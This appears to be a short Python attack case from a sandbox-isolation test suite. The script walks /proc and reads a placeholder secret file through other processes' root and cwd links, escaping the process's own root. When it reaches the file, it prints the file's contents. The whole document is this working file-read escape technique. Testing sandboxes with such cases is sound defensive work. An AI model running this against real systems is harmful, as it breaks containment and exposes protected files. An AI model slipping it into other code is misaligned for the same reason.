# attack: the roots and working folders of all processes in /proc lead around this process's own root
# family: files
import os
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for link in ("root", "cwd"):
            try:
                with open(f"/proc/{pid}/{link}/" + ("$SECRET_FILE" if link == "root" else os.path.basename("$SECRET_FILE"))) as f:
                    print("REACHED", pid, link)
                    print(f.read())
                    raise SystemExit
            except OSError:
                pass
